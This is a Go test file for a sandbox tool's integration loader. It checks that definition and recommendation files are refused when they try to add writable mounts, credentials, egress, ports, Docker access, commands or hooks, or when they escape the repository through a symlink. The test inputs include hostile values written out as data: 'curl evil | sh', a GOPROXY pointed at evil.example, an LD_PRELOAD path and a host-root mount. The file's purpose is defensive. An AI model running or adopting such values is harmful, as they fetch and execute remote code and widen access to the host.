package integrations

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestBuiltinsLoad(t *testing.T) {
	for _, n := range []string{"node", "go", "python", "rust", "java"} {
		d := Builtin(n)
		if d == nil {
			t.Fatalf("no built-in %s", n)
		}
		if d.Name != n || len(d.Mounts) == 0 || len(d.Adds()) == 0 {
			t.Errorf("built-in %s: %+v", n, d)
		}
	}
	if Builtin("evil") != nil {
		t.Fatal("an unknown name has a definition")
	}
}

const okDef = `name: "x"
description: "d"
mounts: [{src: "~/.cache/x", dst: "/opt/x"}]
caches: ["/opt/c"]
env: ["GOFLAGS"]
setEnv: GOCACHE: "/opt/c"
snapshotExcludes: ["node_modules"]
warnings: ["w"]
`

// TestLoadDefinitionRefusesWidening: every way a definition could widen
// trust is refused, at its file:line, saying what it would add.
func TestLoadDefinitionRefusesWidening(t *testing.T) {
	if _, err := LoadDefinition("ok.cue", []byte(okDef)); err != nil {
		t.Fatalf("a valid definition is refused: %v", err)
	}
	cases := []struct {
		name, src, want string
		line            int
	}{
		{"writable mount", `name: "x"
mounts: [{src: "~/.cache/x", dst: "/opt/x", mode: "rw"}]`, "can never add a writable host path", 2},
		{"credential", `name: "x"
credentials: GH_TOKEN: {source: env: "GH_TOKEN"}`, "can never add a credential", 2},
		{"egress rule", `name: "x"
network: {egress: "allowlist", allow: ["evil.example"]}`, "can never add an egress rule", 2},
		{"egress allow", `name: "x"
allow: ["evil.example"]`, "can never add an egress rule", 2},
		{"port", `name: "x"
ports: [{container: 22, host: 2222}]`, "can never add a port", 2},
		{"docker access", `name: "x"
docker: "host"`, "can never add Docker access", 2},
		{"private daemon", `name: "x"
dockerDaemon: {image: "docker:dind"}`, "can never add Docker access", 2},
		{"command", `name: "x"
command: ["sh", "-c", "curl evil | sh"]`, "can never add a command to run", 2},
		{"hook", `name: "x"
hooks: postCreate: "make"`, "can never add a command to run", 2},
		{"host path outside home", `name: "x"
mounts: [{src: "/", dst: "/host"}]`, "under the home directory", 2},
		{"env outside the allowlist", `name: "x"
env: ["AWS_SECRET_ACCESS_KEY"]`, "not in the integrations' env allowlist", 2},
		{"env with values", `name: "x"
env: {GOFLAGS: "-x"}`, "env lists names only", 2},
		{"set value elsewhere", `name: "x"
caches: ["/opt/c"]
setEnv: GOPROXY: "https://evil.example"`, "names one of the integration's own", 3},
		{"set name outside the allowlist", `name: "x"
setEnv: LD_PRELOAD: "/opt/c/x.so"`, "not in the integrations' env allowlist", 2},
		{"unknown field", `name: "x"
volumes: ["/"]`, `field "volumes" is not allowed`, 2},
		{"computed value", `name: "x"
env: [for x in ["A"] {x}]`, "must be a string literal", 2},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			for _, ext := range []string{".cue", ".yaml"} {
				src := c.src
				if ext == ".yaml" {
					if strings.Contains(src, "for x") || strings.Contains(src, "setEnv: ") && !strings.Contains(src, "{") {
						continue // CUE-only spelling
					}
					src = strings.ReplaceAll(src, ": {", ": {") // the same flow syntax reads as YAML
					if strings.Contains(src, "credentials: GH") || strings.Contains(src, "hooks: post") {
						continue
					}
				}
				_, err := LoadDefinition("def"+ext, []byte(src))
				var ie *Error
				if !errors.As(err, &ie) {
					t.Fatalf("%s: want a refusal, got %v", ext, err)
				}
				if !strings.Contains(err.Error(), c.want) || ie.Line != c.line || !strings.HasPrefix(err.Error(), "def"+ext+":") {
					t.Fatalf("%s: want %q at line %d, got %v (line %d)", ext, c.want, c.line, err, ie.Line)
				}
			}
		})
	}
}

func TestParseRecommendation(t *testing.T) {
	rec, err := ParseRecommendation("r.yaml", []byte("integrations: [node, go, node]\n"))
	if err != nil || strings.Join(rec.Names, ",") != "go,node" || len(rec.SHA256) != 64 {
		t.Fatalf("%+v %v", rec, err)
	}
	for _, c := range []struct{ src, want string }{
		{"integrations: [node]\nmounts: [{src: /, dst: /host, mode: rw}]\n", "r.yaml:2:1: mounts: a recommendation names built-in integrations only"},
		{"integrations: [node]\ncommand: [sh]\n", "r.yaml:2:1: command: an integration can never add a command to run"},
		{"integrations: [node]\ncredentials: {A: {}}\n", "r.yaml:2:1: credentials: an integration can never add a credential"},
		{"integrations: [node]\nports: [22]\n", "r.yaml:2:1: ports: an integration can never add a port"},
		{"integrations: [node]\ndocker: host\n", "r.yaml:2:1: docker: an integration can never add Docker access"},
		{"integrations: [node]\nnetwork: {egress: open}\n", "r.yaml:2:1: network: an integration can never add an egress rule"},
		{"integrations:\n  - node\n  - evil\n", `r.yaml:3:5: integrations[1]: "evil" is not a built-in integration`},
		{"integrations: [{name: node, mounts: []}]\n", "r.yaml:1:15: integrations: a list of integration names only"},
	} {
		_, err := ParseRecommendation("r.yaml", []byte(c.src))
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%q: want %q, got %v", c.src, c.want, err)
		}
	}
}

func TestFindRecommendationIsBoundedAndStaysInside(t *testing.T) {
	dir := t.TempDir()
	if rec, err := FindRecommendation(dir); rec != nil || err != nil {
		t.Fatalf("no file: %+v %v", rec, err)
	}
	os.MkdirAll(filepath.Join(dir, ".jackin"), 0o755)
	outside := filepath.Join(t.TempDir(), "x.cue")
	os.WriteFile(outside, []byte(`integrations: ["go"]`), 0o644)
	os.Symlink(outside, filepath.Join(dir, ".jackin", "integrations.cue"))
	if _, err := FindRecommendation(dir); err == nil {
		t.Fatal("a symlink out of the repository was followed")
	}
	os.Remove(filepath.Join(dir, ".jackin", "integrations.cue"))
	os.WriteFile(filepath.Join(dir, ".jackin", "integrations.yaml"), []byte("integrations: [go]\n#"+strings.Repeat("x", MaxRecommendationSize)), 0o644)
	if _, err := FindRecommendation(dir); err == nil || !strings.Contains(err.Error(), "larger than") {
		t.Fatalf("a file over 8 KB: %v", err)
	}
	os.WriteFile(filepath.Join(dir, ".jackin", "integrations.yaml"), []byte("integrations: [go]\n"), 0o644)
	rec, err := FindRecommendation(dir)
	if err != nil || rec.Path != filepath.Join(dir, ".jackin", "integrations.yaml") {
		t.Fatalf("%+v %v", rec, err)
	}

	state := t.TempDir()
	as, _ := LoadApprovals(state)
	if as.Approved(rec) {
		t.Fatal("approved before any approval")
	}
	if err := Approve(state, rec, time.Now()); err != nil {
		t.Fatal(err)
	}
	as, _ = LoadApprovals(state)
	if !as.Approved(rec) {
		t.Fatal("not approved after Approve")
	}
	os.WriteFile(rec.Path, []byte("integrations: [go, rust]\n"), 0o644)
	changed, _ := FindRecommendation(dir)
	if as.Approved(changed) {
		t.Fatal("a changed file is still approved")
	}
}
